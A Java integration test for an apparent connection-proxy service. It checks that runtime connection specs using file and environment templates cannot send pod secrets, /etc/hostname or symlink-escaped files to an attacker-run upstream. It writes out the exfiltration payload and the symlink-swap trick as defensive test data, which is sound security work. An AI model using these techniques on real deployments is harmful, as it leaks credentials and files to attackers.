package io.longlink.security;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.Test;

import io.longlink.testing.PackagedApp;
import io.longlink.testing.UpstreamResource;
import io.longlink.testing.UpstreamServer;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import io.vertx.core.Vertx;

/**
 * Issue 24's attack, on the packaged application with authentication on and one {@code admin} key: a runtime spec
 * whose headers and on-open step read a file and an environment variable of the pod, pointed at an upstream the
 * attacker runs (a recording upstream on loopback, allowed through {@code longlink.upstreams.allowed-hosts}). The
 * PUT answers 400 and the upstream sees nothing; what {@code longlink.templates.allowed-files} and
 * {@code allowed-env} allow reaches the upstream; a link out of the allowed directory is refused at PUT and, swapped
 * in after the PUT, fails the next connect without reading; configured connections read both, as before.
 */
class RuntimeSpecReadsIT {

    private static final String FILE_SECRET = "file-secret-" + UUID.randomUUID();
    private static final String ENV_SECRET = "env-secret-" + UUID.randomUUID();

    @Test
    void aRuntimeSpecReadsOnlyWhatTheSettingsAllow() throws Exception {
        Path dir = Files.createDirectories(Path.of("target", "it-reads", UUID.randomUUID().toString()))
                .toAbsolutePath();
        Path secret = Files.writeString(dir.resolve("secret"), FILE_SECRET + "\n");
        Path runtime = Files.createDirectories(dir.resolve("runtime"));
        Path token = Files.writeString(runtime.resolve("token"), "allowed-token\n");
        Files.createSymbolicLink(runtime.resolve("escape"), secret);
        Path swapped = Files.writeString(runtime.resolve("swapped"), "plain-file\n");
        String key = TestCredentials.apiKey("it-reads-admin");
        Vertx vertx = Vertx.vertx();
        try (UpstreamServer upstream = new UpstreamServer(vertx, "127.0.0.1", 0).start()) {
            Map<String, String> config = new HashMap<>();
            config.put("longlink.auth.enabled", "true");
            config.put("longlink.auth.api-keys.admin.sha256", TestCredentials.sha256(key));
            config.put("longlink.auth.api-keys.admin.roles", "admin");
            config.put("longlink.store.path", UpstreamResource.freshStore().toString());
            config.put("longlink.upstreams.allowed-hosts", "127.0.0.1");
            config.put("longlink.templates.allowed-files", runtime + "/*");
            config.put("longlink.templates.allowed-env", "FEED_*");
            config.put("longlink.connections.conf.url", upstream.url("/conf"));
            config.put("longlink.connections.conf.headers.X-File", "{{file:" + secret + "}}");
            config.put("longlink.connections.conf.headers.X-Env", "{{env:POD_DB_PASSWORD}}");
            Map<String, String> environment = Map.of("POD_DB_PASSWORD", ENV_SECRET, "FEED_TOKEN", "feed-token");
            try (PackagedApp app = PackagedApp.start("runtime-spec-reads", config, List.of(), environment)) {
                java.util.function.Supplier<RequestSpecification> admin = () -> given().baseUri("http://localhost")
                        .port(app.port()).header("X-API-Key", key).contentType("application/json");

                Response attack = admin.get().body("""
                        {"url": "%s", "auto-open": true,
                         "headers": {"X-File": "{{file:%s}}", "X-Env": "{{env:POD_DB_PASSWORD}}"},
                         "on-open": [{"text": "{{file:/etc/hostname}}"}]}""".formatted(upstream.url("/evil"), secret))
                        .put("/connections/evil");
                assertEquals(400, attack.statusCode(), attack.asString());
                assertTrue(attack.contentType().startsWith("application/problem+json"), attack.contentType());
                assertEquals("https://longlink.dev/problems/invalid-spec", attack.path("type"));
                assertTrue(List.of("/headers/X-File", "/headers/X-Env").contains(attack.path("errors[0].pointer")),
                        attack.asString());
                assertTrue(attack.<String>path("errors[0].detail").contains("longlink.templates.allowed-"),
                        attack.asString());
                assertNoSecret(attack.asString());
                assertEquals(404, admin.get().get("/connections/evil").statusCode());
                Response hostname = admin.get().body("""
                        {"url": "%s", "on-open": [{"text": "{{file:/etc/hostname}}"}]}"""
                        .formatted(upstream.url("/evil"))).put("/connections/evil");
                assertEquals(400, hostname.statusCode(), hostname.asString());
                assertEquals("/on-open/0/text", hostname.path("errors[0].pointer"));
                assertTrue(hostname.<String>path("errors[0].detail").contains("longlink.templates.allowed-files"));

                Response escape = admin.get().body("""
                        {"url": "%s", "headers": {"X-File": "{{file:%s}}"}}"""
                        .formatted(upstream.url("/evil"), runtime.resolve("escape"))).put("/connections/evil");
                assertEquals(400, escape.statusCode(), escape.asString());
                assertEquals("/headers/X-File", escape.path("errors[0].pointer"));
                assertNoSecret(escape.asString());

                admin.get().body("""
                        {"url": "%s", "auto-open": true,
                         "headers": {"X-File": "{{file:%s}}", "X-Env": "{{env:FEED_TOKEN}}"},
                         "on-open": [{"text": "first {{file:%s}}"}]}"""
                        .formatted(upstream.url("/good"), token, token)).put("/connections/good").then().statusCode(201);
                await().atMost(Duration.ofSeconds(20)).until(() -> upstream.path("/good").texts().contains("first allowed-token"));
                assertEquals("allowed-token", upstream.path("/good").handshakes.get(0).get("x-file"));
                assertEquals("feed-token", upstream.path("/good").handshakes.get(0).get("x-env"));

                admin.get().body("""
                        {"url": "%s", "auto-open": true, "headers": {"X-File": "{{file:%s}}"},
                         "reconnect": {"initial-delay": "100ms"}}"""
                        .formatted(upstream.url("/swap"), swapped)).put("/connections/swap").then().statusCode(201);
                await().atMost(Duration.ofSeconds(20)).until(() -> "OPEN".equals(admin.get().get("/connections/swap").path("state")));
                assertEquals("plain-file", upstream.path("/swap").handshakes.get(0).get("x-file"));
                Files.delete(swapped);
                Files.createSymbolicLink(swapped, secret);
                upstream.closeSockets("/swap", (short) 1001, "going away");
                await().atMost(Duration.ofSeconds(20)).until(() -> String.valueOf(
                        admin.get().get("/connections/swap").<String>path("lastError")).contains("allowed-files"));
                String status = admin.get().get("/connections/swap").asString();
                assertNoSecret(status);
                assertEquals(1, upstream.path("/swap").handshakes.size(), "no handshake after the swap: " + status);

                await().atMost(Duration.ofSeconds(20)).until(() -> !upstream.path("/conf").handshakes.isEmpty());
                assertEquals(FILE_SECRET, upstream.path("/conf").handshakes.get(0).get("x-file"),
                        "a configured connection reads any file");
                assertEquals(ENV_SECRET, upstream.path("/conf").handshakes.get(0).get("x-env"));

                assertTrue(upstream.path("/evil").handshakes.isEmpty(), "the attacker's upstream saw nothing");
                for (String path : List.of("/evil", "/good", "/swap")) {
                    upstream.path(path).handshakes.forEach(h -> assertNoSecret(h.toString()));
                    upstream.path(path).texts().forEach(RuntimeSpecReadsIT::assertNoSecret);
                }
                assertFalse(app.output().contains(FILE_SECRET) || app.output().contains(ENV_SECRET),
                        "no secret in the log");
            }
        } finally {
            vertx.close();
        }
    }

    private static void assertNoSecret(String text) {
        assertFalse(text.contains(FILE_SECRET), text);
        assertFalse(text.contains(ENV_SECRET), text);
    }
}
